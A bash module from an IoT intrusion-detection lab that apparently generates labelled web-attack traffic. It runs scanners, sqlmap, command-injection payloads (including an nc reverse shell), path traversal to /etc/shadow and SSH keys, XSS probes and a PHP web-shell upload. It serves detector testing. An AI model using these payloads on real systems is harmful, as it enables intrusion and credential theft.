# shellcheck shell=bash
# Fifth-session web attacks (issue #5 "generalise"): the vulnerability
# scanners and injection payloads public IoT datasets record (CICIoT2023
# VulnerabilityScan / SqlInjection / CommandInjection / XSS /
# Uploading_Attack, Edge-IIoTset Vulnerability_scanner / SQL_injection / XSS
# / Uploading, TON_IoT scanning / injection / xss) against the lab's busybox
# web servers (camera, gateway, hub). Tools from Debian: dirb, gobuster,
# wfuzz, sqlmap, nmap's http NSE scripts, curl. Where a tool names itself in
# its User-Agent the runs below mostly set a browser's instead, so what is
# measured is the shape of the traffic, not the tool's name. Two benign look-
# alikes (unlabelled) must stay quiet. Mix them into any scenario with
# --attacks.

WEB5_UA="Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"

# dirb's own User-Agent is MSIE 6's; it names no tool.
attack_dirb_scan() {
    labelled dirb-scan recon "${IP[atk]}" "${IP[cam]}" 80 dirb \
        "directory brute force with dirb's small list (959 words), not recursive; dirb's default User-Agent (MSIE 6, no tool name)" atk 300 -- \
        dirb "http://${IP[cam]}/" /usr/share/dirb/wordlists/small.txt -S -r -w
}

attack_gobuster_dir() {
    labelled gobuster-dir recon "${IP[atk]}" "${IP[gw]}" 80 gobuster \
        "directory brute force with gobuster dir, dirb's common list (4 614 words), 10 threads, a Firefox User-Agent" atk 300 -- \
        gobuster dir -q -z -t 10 -u "http://${IP[gw]}/" -w /usr/share/dirb/wordlists/common.txt -a "$WEB5_UA"
}

# wfuzz names itself (Wfuzz/3.1.0), a name ward's scanner list knows (it
# then needs half the evidence).
attack_wfuzz_dir() {
    labelled wfuzz-dir recon "${IP[atk]}" "${IP[hub]}" 80 wfuzz \
        "path fuzzing with wfuzz (dirb's small list, hide 404s), its own User-Agent" atk 300 -- \
        wfuzz -z "file,/usr/share/dirb/wordlists/small.txt" --hc 404 -t 10 "http://${IP[hub]}/FUZZ"
}

# http-enum's ~2 000 known application paths, with a browser User-Agent
# (its 404 check still asks for /nmaplowercheck<n>).
attack_nmap_http_enum() {
    labelled nmap-http-enum recon "${IP[atk]}" "${IP[gw]}" 80 nmap \
        "nmap --script http-enum (known application paths) with http.useragent set to Firefox's" atk 400 -- \
        nmap -Pn -n -p 80 --script http-enum --script-args "http.useragent=$WEB5_UA" "${IP[gw]}"
}

# Vulnerability checks that send payloads: shellshock in headers, passwd
# path traversal, SQL injection into spidered forms and queries.
attack_nmap_http_vuln() {
    labelled nmap-http-vuln recon "${IP[atk]}" "${IP[cam]}" 80 nmap \
        "nmap --script http-shellshock,http-passwd,http-sql-injection,http-phpself-xss,http-vuln-cve2017-1001000 (default User-Agent)" atk 400 -- \
        nmap -Pn -n -p 80 --script "http-shellshock,http-passwd,http-sql-injection,http-phpself-xss,http-vuln-cve2017-1001000" "${IP[cam]}"
}

# sqlmap against a query parameter, a random browser User-Agent from its list.
attack_sqlmap_injection() {
    labelled sqlmap-injection exploit "${IP[atk]}" "${IP[hub]}" 80 sqlmap \
        "sqlmap --batch --random-agent against /description.xml?id=1&lang=en (the default level and risk: boolean, error, time and UNION payloads)" atk 400 -- \
        sqlmap -u "http://${IP[hub]}/description.xml?id=1&lang=en" --batch --random-agent --flush-session \
        --output-dir="$W/atk/sqlmap" --timeout 5 --retries 0 --time-sec 1
}

# One curl per payload, as commix-style and hand-made probes send them.
web5_curls() { # LABEL HOST PATH...
    local label=$1 host=$2 p; shift 2
    for p in "$@"; do
        curl -s -m 5 --path-as-is -g -A "$WEB5_UA" -o /dev/null -w "%{http_code} $p\n" "http://$host$p" || true
        sleep 0.3
    done
}
attack_web_cmd_injection() {
    labelled web-cmd-injection exploit "${IP[atk]}" "${IP[gw]}" 80 curl \
        "command injection into CGI parameters: ; | \$( and backticks with id, cat /etc/passwd, uname, ping (12 requests)" atk 60 -- \
        bash -c "$(declare -f web5_curls); WEB5_UA='$WEB5_UA'; web5_curls cmdi ${IP[gw]} \
            '/cgi-bin/ping.cgi?ip=127.0.0.1;id' '/cgi-bin/ping.cgi?ip=127.0.0.1%3Bcat%20/etc/passwd' \
            '/cgi-bin/ping.cgi?ip=127.0.0.1|uname%20-a' '/cgi-bin/ping.cgi?ip=%24(id)' \
            '/cgi-bin/ping.cgi?ip=%60id%60' '/cgi-bin/diag.cgi?host=8.8.8.8%26%26cat+/etc/shadow' \
            '/diag.php?cmd=ls+-la' '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=\$(id>/tmp/x)' \
            '/api/ping?addr=127.0.0.1%0aid' '/cgi-bin/test.cgi?q=1;sleep+5' \
            '/admin/exec?c=127.0.0.1|nc+-e+/bin/sh+192.168.50.66+4444' '/index.php?page=%7C%7Cwhoami'; \
            curl -s -m 5 -A '$WEB5_UA' -o /dev/null -X POST --data 'ipaddr=127.0.0.1;cat /etc/passwd&submit=Ping' http://${IP[gw]}/cgi-bin/ping.cgi"
}
attack_web_path_traversal() {
    labelled web-path-traversal exploit "${IP[atk]}" "${IP[cam]}" 80 curl \
        "path traversal: ../ repeated, %2e%2e, ..%2f and ..%5c to /etc/passwd, /etc/shadow and win.ini (10 requests)" atk 60 -- \
        bash -c "$(declare -f web5_curls); WEB5_UA='$WEB5_UA'; web5_curls trav ${IP[cam]} \
            '/../../../../etc/passwd' '/%2e%2e/%2e%2e/%2e%2e/etc/passwd' '/cgi-bin/..%2f..%2f..%2fetc/passwd' \
            '/doc/page/../../../../../etc/shadow' '/download?file=../../../../etc/passwd' \
            '/img/..%5c..%5c..%5cwindows/win.ini' '/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/hosts' \
            '/view.php?page=....//....//....//etc/passwd' '/..%252f..%252f..%252fetc/passwd' \
            '/file?path=%2e%2e%2f%2e%2e%2froot/.ssh/id_rsa'"
}
attack_web_xss_probe() {
    labelled web-xss-probe exploit "${IP[atk]}" "${IP[hub]}" 80 curl \
        "reflected XSS probes: <script>, onerror=, javascript:, <svg onload=> in query parameters and paths (9 requests)" atk 60 -- \
        bash -c "$(declare -f web5_curls); WEB5_UA='$WEB5_UA'; web5_curls xss ${IP[hub]} \
            '/search?q=%3Cscript%3Ealert(1)%3C/script%3E' '/index.html?name=<script>alert(document.cookie)</script>' \
            '/login?user=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E' '/index.html?lang=%22%3E%3Csvg/onload=alert(1)%3E' \
            '/page?redirect=javascript:alert(1)' '/%3Cscript%3Ealert(%27xss%27)%3C/script%3E' \
            '/comment?text=%3Cbody%20onload%3Dalert(1)%3E' '/index.html?q=%3CiFrAmE%20src%3Djavascript:alert(1)%3E' \
            '/index.html?x=%3Cimg+src%3D1+onerror%3Dprompt(1)%3E'"
}
# A PHP web shell uploaded as a multipart form, then called.
attack_web_shell_upload() {
    printf '<?php if(isset($_REQUEST["cmd"])){ system($_REQUEST["cmd"]); } ?>\n' >"$W/atk/shell.php"
    labelled web-shell-upload exploit "${IP[atk]}" "${IP[gw]}" 80 curl \
        "upload of a PHP web shell (multipart form to /upload.php, then /uploads/shell.php?cmd=id)" atk 60 -- \
        sh -c "curl -s -m 5 -A '$WEB5_UA' -o /dev/null -w '%{http_code}\n' -F 'file=@$W/atk/shell.php;type=application/x-php' -F submit=Upload http://${IP[gw]}/upload.php; \
               sleep 1; curl -s -m 5 -A '$WEB5_UA' -o /dev/null -w '%{http_code}\n' 'http://${IP[gw]}/uploads/shell.php?cmd=id'"
}

# Benign, unlabelled: must raise nothing. A misconfigured client retrying
# one missing path (40 x 404, one a second over 40 s, as a broken
# favicon/firmware-check loop does), and a UPnP control point / web UI
# fetching the camera's and hub's descriptions and pages, again and again.
benign_web() {
    local name=$1 node=$2; shift 2
    echo "[lab] $(date -u +%T) benign $name (unlabelled)" >&2
    nsx "$node" timeout -k 3 120 "$@" >>"$W/logs/benign-$name.log" 2>&1 || true
}
attack_web_retry_missing() {
    benign_web web-retry-missing phone sh -c \
        "for i in \$(seq 40); do curl -s -m 3 -o /dev/null -w '%{http_code}\n' http://${IP[cam]}/favicon.ico; sleep 1; done"
}
attack_web_ui_poll() {
    benign_web web-ui-poll phone sh -c \
        "for i in \$(seq 15); do for p in / /index.html /upnpdevicedesc.xml /ISAPI/System/deviceInfo /ISAPI/Streaming/channels/101/picture /doc/page/login.asp /favicon.ico; do \
           curl -s -m 3 -u admin:12345 -o /dev/null -w '%{http_code}\n' http://${IP[cam]}\$p; done; \
           curl -s -m 3 -o /dev/null http://${IP[hub]}/; curl -s -m 3 -o /dev/null http://${IP[hub]}/description.xml; sleep 2; done"
}
